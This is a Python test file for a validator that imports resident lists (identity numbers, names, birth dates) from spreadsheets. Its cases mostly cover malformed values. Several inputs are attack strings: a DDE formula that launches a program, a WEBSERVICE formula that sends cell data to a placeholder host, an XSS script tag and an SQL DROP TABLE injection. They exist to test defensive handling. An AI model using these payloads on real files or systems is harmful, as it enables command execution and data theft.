"""What stands in the cells: one wrong cell refuses its own row and no other, and says where it is."""

# ruff: noqa: E501, PLW0108  (tables of cases read better on one line; a case names its maker before it is written)
from __future__ import annotations

from collections.abc import Callable
from typing import Any

from tests.korpus.alat import (
    KEPALA,
    Kasus,
    baik,
    baris_xml,
    daftar,
    lembar_xml,
    nik,
    orang,
    tulis_buku,
    tulis_teks,
    ubah,
    xlsx_mentah,
)

BULAN = "Januari Februari Maret April Mei Juni Juli Agustus September Oktober November Desember".split()


def _satu(kolom: str, nilai: Any) -> list[list[Any]]:
    """Only the second person has this value."""
    return ubah(kolom, lambda i, s: nilai(s) if i == 1 and callable(nilai) else nilai if i == 1 else s)


def buruk(nama: str, kolom: str, nilai: Any, kode: str, *, csv: bool = False) -> Kasus:
    """The second person is refused at this column; the other two are taken."""
    huruf = chr(65 + KEPALA.index(kolom))
    buat: Callable[[], bytes] = (lambda: tulis_teks(_satu(kolom, nilai), ";")) if csv else (lambda: tulis_buku(_satu(kolom, nilai)))
    return baik(nama, "daftar.csv" if csv else "daftar.xlsx", buat, baris=(2, 4), nik=(0, 2), ditolak={3: (huruf, kode)})


def tandai(nama: str, kolom: str, nilai: Any, kode: str) -> Kasus:
    """The second person is taken with a remark."""
    return baik(nama, "daftar.xlsx", lambda: tulis_buku(_satu(kolom, nilai)), periksa={3: kode})


def semua(nama: str, kolom: str, nilai: Callable[[int, str], Any]) -> Kasus:
    """Every person is written this way, and every one is taken."""
    return baik(nama, "daftar.xlsx", lambda: tulis_buku(ubah(kolom, nilai)))


def _tgl(bentuk: Callable[[str, str, str], str]) -> Callable[[int, str], str]:
    return lambda _i, s: bentuk(*s.split("/"))


def _rumus(rumus: str, hasil: str) -> bytes:
    """A cell with a formula and the value Excel last saw; the value is what counts, nothing is computed."""
    baris = [list(b) for b in daftar()]
    aman = rumus.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    baris[2][2] = f'<c r="C3" t="str"><f>{aman}</f><v>{hasil}</v></c>'
    return xlsx_mentah(lembar_xml(baris_xml(baris)))


TANGGAL: dict[str, Callable[[str, str, str], str]] = {
    "17-08-1985": lambda h, b, t: f"{h}-{b}-{t}", "17.08.1985": lambda h, b, t: f"{h}.{b}.{t}", "17 08 1985": lambda h, b, t: f"{h} {b} {t}",
    "1985-08-17": lambda h, b, t: f"{t}-{b}-{h}", "17081985": lambda h, b, t: f"{h}{b}{t}", "17/8/85": lambda h, b, t: f"{h}/{int(b)}/{t[2:]}",
    "17 Agustus 1985": lambda h, b, t: f"{int(h)} {BULAN[int(b) - 1]} {t}", "17 AGT 1985": lambda h, b, t: f"{h} {BULAN[int(b) - 1][:3].upper()} {t}",
    "17-Agu-85": lambda h, b, t: f"{h}-{BULAN[int(b) - 1][:3]}-{t[2:]}", "Sabtu, 17 Agustus 1985": lambda h, b, t: f"Sabtu, {h} {BULAN[int(b) - 1]} {t}",
    "1985/08/17 00:00:00": lambda h, b, t: f"{t}/{b}/{h} 00:00:00", "Jambi, 17-08-1985": lambda h, b, t: f"Jambi, {h}-{b}-{t}",
    "17 - 08 - 1985": lambda h, b, t: f"{h} - {b} - {t}", "'17/08/1985": lambda h, b, t: f"'{h}/{b}/{t}",
}  # fmt: skip
RUMUS = {
    "=cmd": ("cmd|' /C calc'!A0", "Siti Rohani"), "=hyperlink": ('HYPERLINK("http://contoh.invalid","klik")', "Siti Rohani"),
    "=webservice": ('WEBSERVICE("http://contoh.invalid/?"&B3)', "Siti Rohani"), "=tautan luar": ("'[lain.xlsx]Sheet1'!A1", "Siti Rohani"),
}  # fmt: skip

KASUS: list[Kasus] = [
    *[semua(f"tanggal {n}", "Tanggal Lahir", _tgl(b)) for n, b in TANGGAL.items()],
    *[baik(f"rumus {n} dengan nilai tersimpan", "daftar.xlsx", lambda r=r: _rumus(*r)) for n, r in RUMUS.items()],
    *[buruk(f"nama berisi rumus {n!r}", "Nama Lengkap", n, "nama_bentuk")
      for n in ("+62812", "-2+3", "@SUM(A1)", "\uff1d1+1")],
    buruk("nama berisi rumus yang belum pernah dihitung", "Nama Lengkap", "=1+1", "nama_kosong"),
    baik("rumus di kolom asing", "daftar.xlsx", lambda: xlsx_mentah(lembar_xml(baris_xml([[*b, x] for b, x in zip(daftar(),
         ["Ket", '<c r="J2"><f>1+1</f><v>2</v></c>', '<c r="J3" t="e"><f>1/0</f><v>#DIV/0!</v></c>', ""], strict=True)])))),
    # identity numbers
    semua("nik berspasi", "NIK", lambda _i, s: f"{s[:6]} {s[6:12]} {s[12:]}"),
    semua("nik bertitik", "NIK", lambda _i, s: f"{s[:2]}.{s[2:4]}.{s[4:6]}.{s[6:12]}.{s[12:]}"),
    semua("nik berapostrof", "NIK", lambda _i, s: "'" + s),
    semua("nik berapostrof miring dan spasi keras", "NIK", lambda _i, s: "\u2019\u00a0" + s + "\u200b"),
    semua("nik angka lebar", "NIK", lambda _i, s: "".join(chr(0xFF10 + int(c)) for c in s)),
    semua("nik didahului kata", "NIK", lambda _i, s: f"NIK: {s}"),
    semua("nik berkutip ganda", "NIK", lambda _i, s: f'"{s}"'),
    semua("nik sebagai rumus teks", "NIK", lambda _i, s: f"\u200e{s}\u200f"),
    buruk("nik 15 angka", "NIK", lambda s: s[:15], "nik_panjang"),
    buruk("nik 17 angka", "NIK", lambda s: s + "1", "nik_panjang"),
    buruk("nik sebagai angka", "NIK", lambda s: int(s), "nik_angka"),
    buruk("nik 3,2E+15", "NIK", "3,2E+15", "nik_angka", csv=True),
    buruk("nik 1.59999E+15", "NIK", "1.59999E+15", "nik_angka", csv=True),
    buruk("nik huruf O", "NIK", lambda s: s[:-1] + "O", "nik_huruf"),
    buruk("nik huruf l", "NIK", lambda s: "l" + s[1:], "nik_huruf"),
    buruk("nik kosong", "NIK", "", "nik_kosong"),
    buruk("nik tanda hubung", "NIK", "-", "nik_kosong"),
    buruk("nik belum ada", "NIK", "belum punya", "nik_huruf"),
    buruk("nik enam belas nol", "NIK", "0" * 16, "nik_bentuk"),
    buruk("nik bulan 13", "NIK", lambda s: s[:8] + "13" + s[10:], "nik_bentuk"),
    buruk("nik hari 79", "NIK", lambda s: s[:6] + "79" + s[8:], "nik_bentuk"),
    buruk("nik tahun 2099 sebagai tanggal", "NIK", True, "nik_bentuk"),
    buruk("nik galat rumus", "NIK", "#N/A", "galat_rumus", csv=True),
    tandai("nik beda tanggal lahir", "Tanggal Lahir", "20/11/1980", "lahir_beda_nik"),
    tandai("nik beda jenis kelamin", "L/P", "L", "jk_beda_nik"),
    baik("nik kembar dalam satu berkas", "daftar.xlsx", lambda: tulis_buku([*daftar(), [*orang(9)[:1], *orang(0)[1:]]]), ditolak={5: ("B", "nik_ganda")}),
    baik("orang yang sama persis dua kali", "daftar.xlsx", lambda: tulis_buku([*daftar(), orang(2)]), ditolak={5: ("B", "nik_ganda")}),
    baik("semua nik berakhir nol", "daftar.xlsx", lambda: tulis_buku(ubah("NIK", lambda i, s: f"{s[:12]}{i + 1:03d}0", 7)), baris=(), nik=None,
         ditolak=dict.fromkeys(range(2, 9), ("B", "nik_terpotong")), catatan="angka ke-16"),
    baik("semua nik angka", "daftar.xlsx", lambda: tulis_buku(ubah("NIK", lambda _i, s: int(s))), baris=(), nik=None,
         ditolak=dict.fromkeys(range(2, 5), ("B", "nik_angka")), catatan="tersimpan sebagai angka"),
    # dates
    buruk("31 februari", "Tanggal Lahir", "31/02/1985", "tanggal_tidak_ada"),
    buruk("hari dan bulan tertukar", "Tanggal Lahir", "05/31/1985", "tanggal_tidak_ada"),
    buruk("tanggal nol", "Tanggal Lahir", "00/00/0000", "tanggal_tidak_ada"),
    buruk("tanggal tinggal tahun", "Tanggal Lahir", "1985", "tanggal_tahun_saja", csv=True),
    buruk("nama bulan asing", "Tanggal Lahir", "17 Brumaire 1985", "tanggal_bulan"),
    buruk("lahir tahun depan", "Tanggal Lahir", "17/08/2199", "lahir_nanti"),
    buruk("anak sepuluh tahun", "Tanggal Lahir", "17/08/2016", "umur_too_young"),
    buruk("tanggal tujuh puluh tanda tanya", "Tanggal Lahir", "?" * 70, "tanggal_bentuk"),
    buruk("tanggal angka hari minus", "Tanggal Lahir", -5.0, "tanggal_bentuk"),
    buruk("tanggal angka hari raksasa", "Tanggal Lahir", 9e300, "tanggal_bentuk"),
    baik("bulan dan hari bertukar menurut nik", "daftar.xlsx", lambda: tulis_buku([*daftar(), [*orang(28)[:4], "05/01/1998", *orang(28)[5:]]]),
         baris=(2, 3, 4, 5), nik=(0, 1, 2, 28), periksa={5: "lahir_tertukar"}),
    tandai("tanggal kosong", "Tanggal Lahir", "", "lahir_dari_nik"),
    # names
    semua("gelar di depan dan belakang", "Nama Lengkap", lambda _i, s: f"H. {s}, S.Pd."),
    semua("nama berspasi keras dan ganda", "Nama Lengkap", lambda _i, s: f"  {s}\u00a0\u00a0 "),
    semua("nama dengan penggabung dan nol lebar", "Nama Lengkap", lambda _i, s: s.replace("a", "a\u200b")),
    semua("nama dengan tanda kanan ke kiri", "Nama Lengkap", lambda _i, s: "\u202e" + s + "\u202c"),
    semua("nama dengan aksen terurai", "Nama Lengkap", lambda _i, s: s.replace("a", "a\u0301", 1)),
    semua("nama bapostrof Nu'man", "Nama Lengkap", lambda _i, s: s + " Nu'man"),
    buruk("nama kosong", "Nama Lengkap", "", "nama_kosong"),
    buruk("nama satu huruf", "Nama Lengkap", "A", "nama_pendek"),
    buruk("nama berangka", "Nama Lengkap", "Ahm4d", "nama_bentuk"),
    buruk("nama emoji", "Nama Lengkap", "Siti 😀", "nama_bentuk"),
    buruk("nama 130 huruf", "Nama Lengkap", "Siti " * 26, "nama_panjang"),
    buruk("nama 40.000 huruf", "Nama Lengkap", "S" * 32_767, "nama_panjang"),
    buruk("nama berisi html", "Nama Lengkap", "<script>alert(1)</script>", "nama_bentuk"),
    buruk("nama berisi sql", "Nama Lengkap", "'; DROP TABLE pekerja;--", "nama_bentuk"),
    # the rest never costs a person
    tandai("telepon salah", "No HP", "12", "telepon_bentuk"),
    tandai("telepon tulisan", "No HP", "menyusul", "telepon_bentuk"),
    semua("telepon +62", "No HP", lambda _i, s: "+62 " + s[1:]), semua("telepon sebagai angka", "No HP", lambda _i, s: int(s)),
    semua("telepon dua nomor", "No HP", lambda _i, s: f"{s} / 0811-222-333"), semua("telepon bertanda", "No HP", lambda _i, s: f"({s[:4]}) {s[4:8]}-{s[8:]}"),
    tandai("pekerjaan tak dikenal", "Pekerjaan", "pawang naga", "pekerjaan_tak_dikenal"),
    semua("pekerjaan salah ketik", "Pekerjaan", lambda i, _s: ["tukng ojek", "buruh cucii", "kuli bagunan"][i]),
    tandai("pekerjaan kosong", "Pekerjaan", "", "pekerjaan_kosong"),
    tandai("jenis kelamin aneh", "L/P", "tidak tahu", "jk_tak_dikenal"),
    semua("jenis kelamin panjang", "L/P", lambda _i, s: "LAKI - LAKI" if s == "L" else "Perempuan"),
    semua("alamat 5.000 huruf", "Alamat", lambda _i, s: s * 300),
    baik("nomor kk sebagai angka", "daftar.xlsx", lambda: tulis_buku([[*KEPALA, "No KK"], *[[*orang(i), 1599990101200001] for i in range(3)]]),
         periksa={2: "no_kk_angka"}),
    baik("nomor kk sama dengan nik", "daftar.xlsx", lambda: tulis_buku([[*KEPALA, "No KK"], [*orang(0), orang(0)[1]], *[[*orang(i), ""] for i in (1, 2)]]),
         baris=(3, 4), nik=(1, 2), ditolak={2: ("J", "kk_sama_nik")}),
    baik("penghasilan aneh", "daftar.xlsx", lambda: tulis_buku([[*KEPALA, "Penghasilan"], *[[*orang(i), x] for i, x in enumerate(("Rp 1,5 juta", "1e400", -5))]])),
    baik("penghasilan tak hingga", "daftar.csv", lambda: tulis_teks([[*KEPALA, "Penghasilan"], *[[*orang(i), x] for i, x in enumerate(("inf", "NaN", "9" * 400))]], ";"),
         periksa={2: "rupiah_bentuk"}),
    baik("rt lain", "daftar.xlsx", lambda: tulis_buku([[*KEPALA, "RT"], *[[*orang(i), "RT 099/003"] for i in range(3)]]), periksa={2: "rt_lain"}),
    baik("tiga salah di antara dua puluh tiga", "daftar.xlsx", lambda: tulis_buku([[*b[:1], "" if i in (4, 9, 15) else b[1], *b[2:]] for i, b in enumerate(daftar(23))]),
         baris=tuple(r for r in range(2, 25) if r not in (5, 10, 16)), nik=tuple(i for i in range(23) if i not in (3, 8, 14)),
         ditolak=dict.fromkeys((5, 10, 16), ("B", "nik_kosong"))),
    baik("tanpa kolom selain nik dan nama", "daftar.xlsx", lambda: tulis_buku([b[1:3] for b in daftar()]), periksa={2: "lahir_dari_nik"}),
    baik("nama dan nik tertukar isinya", "daftar.xlsx", lambda: tulis_buku([KEPALA, *[[b[0], b[2], b[1], *b[3:]] for b in daftar()[1:]]]), baris=(), nik=None,
         ditolak=dict.fromkeys((2, 3, 4), ("B", "nik_huruf"))),
    baik("nik orang mati tahun 1899", "daftar.xlsx", lambda: tulis_buku([*daftar(), ["4", nik(orang_tua(), False, 4), "Kakek Tua", "Jambi", "01/01/1899", "L"]]),
         ditolak={5: ("E", "umur_too_old")}),
]  # fmt: skip


def orang_tua() -> Any:
    from datetime import date

    return date(1899, 1, 1)
